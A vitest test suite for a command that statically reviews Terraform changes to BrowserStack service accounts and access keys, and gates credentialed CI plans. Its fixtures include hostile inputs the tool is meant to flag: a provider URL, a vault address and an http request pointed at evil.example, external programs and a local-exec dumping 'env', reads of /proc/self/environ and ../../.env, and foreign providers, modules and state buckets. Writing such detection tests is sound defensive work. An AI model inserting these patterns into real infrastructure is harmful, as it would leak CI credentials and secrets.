import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Console, openConsole } from './console.ts';

let console: Console;
beforeEach(async () => {
  console = await openConsole();
});
afterEach(() => console.close());

const ACME = `
terraform {
  required_providers {
    browserstack = { source = "browserstack-iac/browserstack" }
  }
  backend "s3" {
    bucket = "acme-state"
  }
}
provider "browserstack" {
  organization            = "Acme Inc."
  max_rotations_per_apply = 10
}
resource "browserstack_team" "payments" {
  name = "Payments"
}
resource "browserstack_service_account" "ci" {
  identifier = "payments-ci"
  team       = browserstack_team.payments.name
  consumers  = ["GitHub: acme/payments", "owner: payments@acme.test"]
}
resource "browserstack_access_key" "ci" {
  username          = browserstack_service_account.ci.username
  rotate_after_days = 90
  triggers          = { leaked = "no" }
  consumers         = ["GitHub: acme/payments"]
}
`;

function write(path: string, text: string): void {
  const file = join(console.cwd, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

interface Told {
  readonly code: number;
  readonly verdict: string;
  readonly events: readonly string[];
  readonly hazards: readonly string[];
  readonly stops: readonly string[];
}

async function review(...argv: readonly string[]): Promise<Told> {
  const { code, stdout, stderr } = await console.run('review', '--static', ...argv, '--json');
  if (stderr !== '') throw new Error(stderr);
  const json = JSON.parse(stdout);
  expect(json.source.engine).toBe('static');
  return {
    code,
    verdict: json.verdict,
    events: json.changes.map(
      ({ kind, name, cause }: { kind: string; name: string; cause: { code: string } }) =>
        `${kind} ${name} (${cause.code})`,
    ),
    hazards: json.hazards.map(({ code: hazard }: { code: string }) => hazard),
    stops: json.findings
      .filter(({ level }: { level: string }) => level === 'error')
      .map(({ rule }: { rule: string }) => rule),
  };
}

/** The change from Acme as it is to Acme with something replaced and added. */
async function change(
  from: string | RegExp,
  to: string,
  added = '',
  ...more: readonly string[]
): Promise<Told> {
  write('base/main.tf', ACME);
  write('head/main.tf', ACME.replace(from, to) + added);
  return review('base', 'head', ...more);
}

describe('review --static', () => {
  it.each([
    ['nothing', '', '', 'quiet', []],
    [
      'an identifier',
      '"payments-ci"',
      '"payments-pipeline"',
      'danger',
      ['replace payments-ci (replace_path)', 'replace payments-ci (cascade)'],
    ],
    [
      'the name of a team',
      '"Payments"',
      '"Payments and Billing"',
      'danger',
      ['replace Payments (replace_path)', 'replace payments-ci (cascade)', 'replace payments-ci (cascade)'],
    ],
    [
      'a trigger',
      'leaked = "no"',
      'leaked = "build 4711 printed it"',
      'look',
      ['rotate payments-ci (trigger)'],
    ],
    [
      'a trigger that is not known',
      'leaked = "no"',
      'leaked = timestamp()',
      'look',
      ['may_rotate payments-ci (trigger)'],
    ],
    [
      'a trigger that is new',
      'leaked = "no"',
      'leaked = "no", left = "jane"',
      'ok',
      ['update payments-ci (configuration)'],
    ],
    [
      'a longer life',
      'rotate_after_days = 90',
      'rotate_after_days = 365',
      'look',
      ['update payments-ci (configuration)'],
    ],
    [
      'an export',
      'rotate_after_days = 90',
      'rotate_after_days = 90\n  export_access_key = true',
      'danger',
      ['update payments-ci (configuration)'],
    ],
    [
      'the protection',
      'team       = browserstack',
      'deletion_protection = false\n  team       = browserstack',
      'look',
      ['update payments-ci (configuration)'],
    ],
  ])('%s', async (_, from, to, verdict, events) => {
    expect(await change(from, to)).toMatchObject({
      verdict,
      events,
      hazards: [],
      code: verdict === 'quiet' || verdict === 'ok' ? 0 : 2,
    });
  });

  it('never tells the value of a trigger', async () => {
    write('base/main.tf', ACME);
    write('head/main.tf', ACME.replace('leaked = "no"', 'leaked = "build 4711 printed it"'));
    for (const format of ['text', 'json', 'github', 'sarif'])
      expect(
        (await console.run('review', '--static', 'base', 'head', '--format', format)).stdout,
      ).not.toContain('4711');
  });

  it('a block that is gone is a deletion, one that is moved or removed is not', async () => {
    const block = /resource "browserstack_service_account"[\s\S]*/u;
    expect(await change(block, '')).toMatchObject({
      verdict: 'danger',
      events: ['delete payments-ci (configuration)', 'forget payments-ci (cascade)'],
    });
    const removed = ['service_account', 'access_key']
      .map(
        (type) => `removed {\n  from = browserstack_${type}.ci\n  lifecycle {\n    destroy = false\n  }\n}\n`,
      )
      .join('');
    expect(await change(block, removed)).toMatchObject({
      verdict: 'look',
      events: ['forget payments-ci (configuration)', 'forget payments-ci (cascade)'],
    });
    const moved = 'moved {\n  from = browserstack_team.payments\n  to   = browserstack_team.money\n}\n';
    write(
      'head/main.tf',
      ACME.replace('"browserstack_team" "payments"', '"browserstack_team" "money"').replace(
        'browserstack_team.payments',
        'browserstack_team.money',
      ) + moved,
    );
    expect(await review('base', 'head')).toMatchObject({
      verdict: 'ok',
      events: ['move Payments (configuration)'],
    });
  });

  it('a stack that is not there yet only adds', async () => {
    write('head/main.tf', ACME);
    expect(await review('none', 'head')).toMatchObject({ verdict: 'danger', hazards: ['state_elsewhere'] });
    expect(await review('head', 'none')).toMatchObject({ verdict: 'danger' });
  });

  it('reads what CDKTF synthesizes, and names constructs by their paths', async () => {
    const stack = (identifier: string) => ({
      '//': { metadata: { stackName: 'acme' } },
      resource: {
        browserstack_service_account: {
          ci_1: {
            '//': { metadata: { path: 'acme/payments/ci/Resource', uniqueId: 'ci_1' } },
            identifier,
            consumers: ['CI'],
          },
        },
        browserstack_access_key: {
          key_1: {
            '//': { metadata: { path: 'acme/payments/ci/key/Resource', uniqueId: 'key_1' } },
            username: `\${browserstack_service_account.ci_1.username}`,
          },
        },
      },
    });
    await console.write('base/cdk.tf.json', stack('payments-ci'));
    await console.write('head/cdk.tf.json', stack('payments-main'));
    const { stdout } = await console.run(
      'review',
      '--static',
      'base/cdk.tf.json',
      'head/cdk.tf.json',
      '--format',
      'github',
    );
    expect(stdout).toContain('### 🔴 BrowserStack · `acme` — cuts off 1 consumer, cannot be undone');
    expect(stdout).toContain('`payments/ci/key`');
    expect(stdout).toContain('two configurations compared');
    expect(stdout).not.toContain('key_1');
  });
});

describe('before a job with credentials plans', () => {
  const MODULE = 'module "x" {\n  source = "./x"\n}\n';

  it.each([
    [
      'another host',
      'organization            =',
      'base_url = "https://evil.example"\n  organization =',
      '',
      'foreign_url',
    ],
    [
      'a host that is not written',
      'organization            =',
      'base_url = var.url\n  organization =',
      '\nvariable "url" {\n  type = string\n}\n',
      'url_not_known',
    ],
    [
      'a program',
      '',
      '',
      '\ndata "external" "x" {\n  program = ["sh", "-c", "env"]\n}\n',
      'plan_runs_program',
    ],
    [
      'a program in a check',
      '',
      '',
      '\ncheck "x" {\n  data "external" "x" {\n    program = ["env"]\n  }\n}\n',
      'plan_runs_program',
    ],
    ['a request', '', '', '\ndata "http" "x" {\n  url = "https://evil.example"\n}\n', 'plan_sends_request'],
    [
      'a command',
      '',
      '',
      '\nresource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "env"\n  }\n}\n',
      'apply_runs_command',
    ],
    [
      'a provider of somebody',
      'browserstack = {',
      'evil = { source = "evil/evil" }\n    browserstack = {',
      '',
      'new_provider',
    ],
    ['our provider from somebody', 'browserstack-iac/browserstack', 'evil/browserstack', '', 'new_provider'],
    [
      'another version',
      '{ source = "browserstack-iac/browserstack" }',
      '{ source = "browserstack-iac/browserstack", version = "0.0.1" }',
      '',
      'provider_version',
    ],
    [
      'another vault',
      '',
      '',
      '\nprovider "vault" {\n  address = "https://evil.example"\n}\n',
      'provider_pointed',
    ],
    [
      'a module from elsewhere',
      '',
      '',
      '\nmodule "x" {\n  source = "github.com/evil/evil"\n}\n',
      'new_module',
    ],
    ['another place for the state', '"acme-state"', '"evil-state"', '', 'state_elsewhere'],
    [
      'the environment of the job',
      '"payments-ci"',
      'substr(file("/proc/self/environ"), 0, 99)',
      '',
      'plan_reads_file',
    ],
    ['a file outside of the module', '"payments-ci"', 'file("../../.env")', '', 'plan_reads_file'],
  ])('%s is a danger, and the gate is shut', async (_, from, to, added, hazard) => {
    const told = await change(from, to, added);
    expect(told.hazards).toContain(hazard);
    expect(told.code).toBe(2);
    expect(await change(from, to, added, '--gate')).toMatchObject({ code: 2 });
    // On the base branch already: somebody has looked at it.
    write('base/main.tf', ACME.replace(from, to) + added);
    const known = await review('base', 'head', '--gate');
    if (hazard !== 'foreign_url') expect(known).toMatchObject({ code: 0 });
  });

  it.each([
    ['a replacement', '"payments-ci"', '"payments-pipeline"', ''],
    ['a rotation', 'leaked = "no"', 'leaked = "yes"', ''],
    ['a file of the module', '"payments-ci"', `trimspace(file("\${path.module}/name.txt"))`, ''],
    ['a module of this repository', '', '', MODULE],
    [
      'a provider that is known',
      'browserstack = {',
      'vault = { source = "hashicorp/vault" }\n    browserstack = {',
      '',
    ],
  ])('%s opens the gate: a plan will say what it does', async (_, from, to, added) => {
    write('head/x/main.tf', 'output "x" {\n  value = 1\n}\n');
    expect(await change(from, to, added, '--gate')).toMatchObject({ code: 0 });
  });

  it('looks into the modules of the same repository', async () => {
    write('base/x/main.tf', 'output "x" {\n  value = 1\n}\n');
    write('base/main.tf', ACME + MODULE);
    write('head/main.tf', ACME + MODULE);
    write('head/x/main.tf', 'data "external" "x" {\n  program = ["env"]\n}\n');
    expect(await review('base', 'head', '--gate')).toMatchObject({ code: 2, hazards: ['plan_runs_program'] });
  });
});

describe('what cannot be compared', () => {
  it.each([
    [['base'], 'A static review compares two configurations'],
    [['base', 'nowhere'], 'nowhere cannot be read'],
    [['base', 'empty'], 'empty holds no configuration'],
    [['base', 'broken.tf.json'], 'broken.tf.json cannot be read as a configuration'],
    [['base', 'broken'], 'broken/main.tf cannot be read as a configuration'],
  ])('%j ends with 1: %s', async (argv, summary) => {
    write('base/main.tf', ACME);
    write('broken.tf.json', '{ "resource": OwnerCanaryKey000001');
    write('broken/main.tf', 'resource "x" {');
    mkdirSync(join(console.cwd, 'empty'));
    const { code, stderr } = await console.run('review', '--static', ...argv);
    expect(code).toBe(1);
    expect(stderr).toContain(summary);
    expect(stderr).not.toContain('CanaryKey');
  });
});
